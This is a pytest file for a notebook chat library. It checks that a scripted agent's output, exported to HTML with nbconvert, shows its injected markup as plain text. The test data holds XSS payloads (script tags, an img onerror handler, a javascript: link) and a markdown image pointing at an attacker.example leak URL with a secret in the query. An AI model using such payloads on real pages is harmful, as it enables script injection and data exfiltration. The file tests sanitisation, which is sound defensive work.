"""A saved notebook shows the conversation without a kernel: execute one, convert it to HTML, read it.

The notebook's agent (a scripted model) asks a question a scripted user answers, returns a DataFrame,
and writes `<script>` and `<img onerror>` in its text. `jupyter nbconvert --to html` must show the
conversation, the answer and a table, and nothing the model wrote may become a script or a handler.
"""

import subprocess
import sys
from html.parser import HTMLParser

import nbformat
import pytest
from nbclient import NotebookClient

from notebook_tools.widgets._export import ITEM_STYLE

pytestmark = pytest.mark.kernel

SETUP = '''
import pandas as pd

import notebook_tools as nt
from notebook_tools import testing as t


@nt.tool
def sales_table() -> object:
    """The quarter's sales by region."""
    return pd.DataFrame({"region": ["north", "south"], "amount": [120, 860]})


script = t.ScriptedTransport(
    t.turn("Which one? <script>alert('model-1')</script>", t.tool_use("ask_text", {"prompt": "Which quarter?"})),
    t.turn("Here it is <img src=x onerror=\\"alert('model-2')\\">", t.tool_use("sales_table", {})),
    t.reply(
        "South sold **most** in Q3. <script>alert('model-3')</script> [x](javascript:alert('model-4')) "
        "![chart](https://attacker.example/leak?q=SECRET)"
    ),
)
agent = nt.Agent(client=script.client(), model="claude-test", tools=[sales_table], frontend_tools=[nt.ask_text])
chat = nt.Chat(agent)
nt.ScriptedUser(chat, {"ask_text": "Q3 of 2026"})
chat
'''

TURN = 'result = await chat.send("Show me the sales by region")\nprint(result.stop_reason)'


class Tree(HTMLParser):
    """Every element as (tag, attributes, inside the static copy?), the copy's text, and script texts."""

    VOID = {"br", "hr", "img", "meta", "link", "input", "source", "wbr", "col", "area", "base", "embed"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.copy_text, self.scripts = [], [], []
        self._stack, self._copy_depth, self._in_script = [], None, False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if self._copy_depth is None and "nt-static-transcript" in (attrs.get("class") or "").split():
            self._copy_depth = len(self._stack)
        self.elements.append((tag, attrs, self._copy_depth is not None))
        self._in_script = tag == "script"
        if tag not in self.VOID:
            self._stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        while self._stack:
            if self._stack.pop() == tag:
                break
        if self._copy_depth is not None and len(self._stack) <= self._copy_depth:
            self._copy_depth = None
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)
        if self._copy_depth is not None:
            self.copy_text.append(data)


@pytest.fixture(scope="module")
def converted(tmp_path_factory):
    folder = tmp_path_factory.mktemp("notebook")
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(SETUP), nbformat.v4.new_code_cell(TURN)]
    NotebookClient(
        nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(folder)}}
    ).execute()
    path = folder / "chat.ipynb"
    nbformat.write(nb, path)
    subprocess.run(
        [sys.executable, "-m", "jupyter", "nbconvert", "--to", "html", str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return nb, (folder / "chat.html").read_text(encoding="utf-8")


def test_the_saved_notebook_holds_the_final_transcript_below_the_widget(converted):
    nb, _ = converted
    outputs = nb.cells[0].outputs
    # The widget alone, then the copy with the chat's summary under it (issue 26: a text/plain beside
    # the widget printed above the transcript wherever the widget could not load), naming its chat for
    # the JupyterLab extension (issue 40); nbconvert, not knowing that type, shows the HTML.
    assert [sorted(o.get("data", {})) for o in outputs if o.output_type == "display_data"] == [
        ["application/vnd.jupyter.widget-view+json"],
        ["application/vnd.notebook-tools.copy", "text/html", "text/plain"],
    ]
    assert outputs[-1].data["application/vnd.notebook-tools.copy"].startswith("nt-chat-")
    assert "Q3 of 2026" in outputs[-1].data["text/html"]  # replaced by the second cell's turn
    assert outputs[-1].data["text/plain"].startswith("<notebook_tools.Chat: ")  # and its summary with it
    assert "0 items" not in outputs[-1].data["text/plain"]
    assert nb.cells[1].outputs[0].text == "end_turn\n"


def test_the_html_shows_the_conversation_the_answer_and_a_table(converted):
    _, page = converted
    tree = Tree()
    tree.feed(page)
    text = " ".join(" ".join(tree.copy_text).split())
    for expected in [
        "Show me the sales by region",  # the person's message
        "Which quarter?",  # the question
        "Q3 of 2026",  # its answer
        "Here it is",
        "South sold most in Q3.",
    ]:
        assert expected in text
    tags = [tag for tag, _, inside in tree.elements if inside]
    assert "table" in tags and "strong" in tags
    cells = [c for c in text.split() if c in ("north", "south", "120", "860")]
    assert set(cells) == {"north", "south", "120", "860"}
    # What the model wrote is text, shown as written, never markup.
    assert "<script>alert('model-1')</script>" in text and "onerror=" in text
    assert "🖼 image from attacker.example: chart" in text  # a link, never an image fetched by itself


def test_nothing_the_model_wrote_becomes_a_script_or_a_handler(converted):
    _, page = converted
    tree = Tree()
    tree.feed(page)
    inside = [(tag, attrs) for tag, attrs, inside in tree.elements if inside]
    assert inside, "no static copy in the HTML"
    assert not [tag for tag, _ in inside if tag in ("script", "style", "iframe", "object", "embed", "img")]
    # the only style is the copy's own, fixed one on each item's wrapper (it lays out only what is seen)
    ours = {("div", "nt-static-item", ITEM_STYLE)}
    styled = [(tag, attrs.get("class"), attrs["style"]) for tag, attrs in inside if "style" in attrs]
    assert styled and set(styled) == ours
    assert not [(tag, a) for tag, attrs in inside for a in attrs if a.startswith("on")]
    assert not [attrs for _, attrs in inside if "javascript:" in (attrs.get("href") or "").lower()]
    # nbconvert's page has scripts of its own: none of them carries the model's text.
    assert not [s for s in tree.scripts if "alert(" in s]
    assert not [(tag, attrs) for tag, attrs, _ in tree.elements for a in attrs if a == "onerror"]
